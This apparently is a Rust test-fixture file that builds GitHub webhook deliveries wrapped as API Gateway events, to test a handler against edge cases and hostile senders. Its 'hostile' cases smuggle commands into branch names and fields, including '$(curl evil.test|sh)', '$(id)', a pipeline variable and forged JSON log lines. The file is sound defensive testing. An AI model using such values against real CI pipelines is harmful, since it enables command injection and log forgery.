//! Deliveries that no published example shows, in the shapes that GitHub documents, and senders that mean harm.

use crate::events::{base64, form, http_api, rest_api};
use serde_json::{Value, json};

/// Stands in every message, title and author's name; must be in no log and no queue.
pub(crate) const PLANTED: &str = "planted-payload-text";
/// Size of the largest event, in bytes: just below what a synchronous invocation takes (6 MiB).
const LARGEST: usize = 5_900_000;
const BEFORE: &str = "9049f1265b7d61be4a8904a9a27120d2064dab3b";
const AFTER: &str = "4d1b7c0e5f2a3b6c8d9e0f1a2b3c4d5e6f708192";
const NULL: &str = "0000000000000000000000000000000000000000";

/// Every case by its name.
pub(crate) fn cases() -> Vec<(&'static str, Value)> {
    let mut cases = pushes();
    cases.extend(hostile());
    cases.extend(others());
    cases.extend(carried());
    cases.extend(repeated_headers());
    cases
}

fn push(reference: &str, changed: Value) -> Value {
    let mut push = json!({
        "ref": reference, "before": BEFORE, "after": AFTER, "created": false, "deleted": false, "forced": false,
        "base_ref": null, "compare": "https://github.com/acme/shop/compare/x", "commits": commits(1, 1),
        "repository": {"id": 1001, "full_name": "acme/shop", "private": true, "description": PLANTED},
        "pusher": {"name": PLANTED, "email": format!("{PLANTED}@example.com")},
    });
    if let (Some(fields), Value::Object(changed)) = (push.as_object_mut(), changed) {
        fields.extend(changed);
    }
    push
}

fn commits(count: usize, files: usize) -> Value {
    let files: Vec<String> = (0..files).map(|file| format!("src/{PLANTED}/{file}.rs")).collect();
    let commit = |number: usize| {
        json!({"id": format!("{number:040x}"), "message": format!("{PLANTED} {number}"), "distinct": true,
               "author": {"name": PLANTED, "email": "a@example.com"}, "added": [], "removed": [], "modified": files})
    };
    (0..count).map(commit).collect()
}

fn sent(push: &Value) -> Value {
    http_api("push", &push.to_string())
}

fn pushes() -> Vec<(&'static str, Value)> {
    let main = |changed| sent(&push("refs/heads/main", changed));
    vec![
        ("ordinary update", main(json!({}))),
        ("forced", main(json!({"forced": true}))),
        ("new branch", main(json!({"created": true, "before": NULL}))),
        ("21 commits", main(json!({"commits": commits(21, 1)}))),
        ("2,047 commits", main(json!({"commits": commits(2047, 1)}))),
        ("2,048 commits", main(json!({"commits": commits(2048, 1)}))),
        ("3,000 files", main(json!({"commits": commits(1, 3000)}))),
        ("deleted branch", main(json!({"deleted": true, "after": NULL, "head_commit": null}))),
        ("branch named like a tag", sent(&push("refs/heads/refs/tags/v1.0.0", json!({})))),
        ("tag", sent(&push("refs/tags/v1.0.0", json!({})))),
        ("merge queue's branch", sent(&push("refs/heads/gh-readonly-queue/main/pr-7", json!({})))),
        (
            "renamed repository",
            main(json!({"repository": {"id": 1001, "full_name": "newname/store", "private": true}})),
        ),
        (
            "another repository of the old name",
            main(json!({"repository": {"id": 7, "full_name": "acme/shop"}})),
        ),
    ]
}

fn hostile() -> Vec<(&'static str, Value)> {
    let named = |name: &str| sent(&push(&format!("refs/heads/{name}"), json!({})));
    let message =
        format!("{PLANTED} \u{0}\u{1b}[31m $(id) `id` #{{codepipeline.PipelineExecutionId}} \"'\r\n\u{202e}");
    vec![
        ("shell in a branch", named("$(curl evil.test|sh)")),
        ("variable in a branch", named("#{codepipeline.PipelineExecutionId}")),
        ("quotes in a branch", named("a\"b'c`d")),
        ("newlines in a branch", named("a\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\nb")),
        ("control characters in a branch", named("a\u{0}b\u{1b}[31mc\u{7f}d")),
        ("letters of other scripts in a branch", named("größe/変更/🌊")),
        (
            "anything in a message",
            sent(&push("refs/heads/main", json!({"head_commit": {"message": message}}))),
        ),
        ("shell instead of a commit", sent(&push("refs/heads/main", json!({"after": "$(id)"})))),
        ("upper-case commit", sent(&push("refs/heads/main", json!({"after": AFTER.to_uppercase()})))),
        ("ref that is a number", sent(&push("refs/heads/main", json!({"ref": 7})))),
        (
            "repository id in text",
            sent(&push("refs/heads/main", json!({"repository": {"id": "1001", "full_name": "a/b"}}))),
        ),
        (
            "event that is not the body's",
            http_api("pull_request", &push("refs/heads/main", json!({})).to_string()),
        ),
    ]
}

fn pull_request(repo: &Value) -> Value {
    json!({
        "action": "synchronize", "number": 7, "before": BEFORE, "after": AFTER,
        "pull_request": {"number": 7, "title": PLANTED, "head": {"ref": "x", "sha": AFTER, "repo": repo}},
        "repository": {"id": 1001, "full_name": "acme/shop"},
    })
}

fn others() -> Vec<(&'static str, Value)> {
    let pull_request = |repo: Value| http_api("pull_request", &pull_request(&repo).to_string());
    let repository = json!({"id": 1001, "full_name": "acme/shop"});
    let queue = |action: &str| {
        let branch = format!("refs/heads/gh-readonly-queue/main/pr-7-{BEFORE}");
        let group = json!({"head_sha": AFTER, "head_ref": branch, "base_ref": "refs/heads/main"});
        let body = json!({"action": action, "merge_group": group, "repository": repository});
        http_api("merge_group", &body.to_string())
    };
    let mut closed = self::pull_request(&json!({"id": 1001}));
    closed["action"] = json!("closed");
    let mut labeled = self::pull_request(&Value::Null);
    labeled["action"] = json!("labeled");
    let review = json!({"action": "submitted", "review": {"id": 80, "state": "commented", "body": format!("/build {PLANTED}")},
        "pull_request": {"number": 7, "title": PLANTED, "head": {"sha": AFTER, "repo": null}}, "repository": repository});
    let again = |external_id: &str| {
        let run = json!({"id": 4, "head_sha": AFTER, "external_id": external_id, "check_suite": {"head_branch": "main"},
            "output": {"title": PLANTED}});
        let body = json!({"action": "rerequested", "check_run": run, "repository": repository});
        http_api("check_run", &body.to_string())
    };
    vec![
        ("pull request", pull_request(json!({"id": 1001}))),
        (
            "pull request from a fork",
            pull_request(json!({"id": 2002, "full_name": format!("{PLANTED}/shop")})),
        ),
        ("pull request from a deleted fork", pull_request(Value::Null)),
        ("pull request that is closed", http_api("pull_request", &closed.to_string())),
        ("pull request that gets a label", http_api("pull_request", &labeled.to_string())),
        ("review of a pull request", http_api("pull_request_review", &review.to_string())),
        ("check run of a release once more", again("0123456789abcdef0123456789abcdef")),
        ("check run of a build once more", again("0123456789abcdef0123456789abcdef@refs/pull/7/head")),
        ("check run of somebody else once more", again(PLANTED)),
        ("merge queue asks", queue("checks_requested")),
        ("merge queue is done", queue("destroyed")),
        ("event of the future", http_api("hologram", "{}")),
    ]
}

fn carried() -> Vec<(&'static str, Value)> {
    let body = push("refs/heads/main", json!({})).to_string();
    let mut mixed = rest_api("push", &body);
    mixed["headers"] = json!({
        "cOnTeNt-TyPe": "Application/JSON; charset=UTF-8", "X-GITHUB-EVENT": "push", "x-GitHub-delivery": "d-1",
        "X-HUB-signature-256": mixed["headers"]["X-Hub-Signature-256"],
    });
    let mut wrong = http_api("push", &body);
    wrong["body"] = json!(format!("{body} "));
    let mut text = http_api("push", &body);
    text["headers"]["content-type"] = json!("text/plain");
    vec![
        ("REST API", rest_api("push", &body)),
        ("base64", base64("push", &body)),
        ("form", form("push", &body)),
        ("form without the payload", form("push", "")),
        ("mixed case of headers", mixed),
        ("one byte more than was signed", wrong),
        ("another content type", text),
        ("largest event", largest()),
        ("not JSON", http_api("push", "{\"ref\":")),
        ("nothing", http_api("push", "")),
    ]
}

/// A push whose event is as large as an event can be.
fn largest() -> Value {
    let event = |padding: usize| {
        let message = format!("{PLANTED}{}", "x".repeat(padding));
        sent(&push(
            "refs/heads/main",
            json!({"commits": commits(2048, 10), "head_commit": {"message": message}}),
        ))
    };
    let without = event(0).to_string().len();
    let event = event(LARGEST - without);
    assert_eq!(event.to_string().len(), LARGEST);
    event
}

/// HTTP APIs join the values of a header that came twice by a comma, REST APIs list them.
fn repeated_headers() -> Vec<(&'static str, Value)> {
    let body = push("refs/heads/main", json!({})).to_string();
    let joined = |name: &str| {
        let mut event = http_api("push", &body);
        let value = event["headers"][name].as_str().unwrap_or_default().to_owned();
        event["headers"][name] = json!(format!("{value},{value}"));
        event
    };
    let listed = |name: &str| {
        let mut event = rest_api("push", &body);
        let value = event["headers"][name].clone();
        event["multiValueHeaders"][name] = json!([value, value]);
        event
    };
    vec![
        ("signature twice, HTTP API", joined("x-hub-signature-256")),
        ("signature twice, REST API", listed("X-Hub-Signature-256")),
        ("event twice, HTTP API", joined("x-github-event")),
        ("event twice, REST API", listed("X-GitHub-Event")),
        ("content type twice, HTTP API", joined("content-type")),
        ("delivery twice, HTTP API", joined("x-github-delivery")),
    ]
}
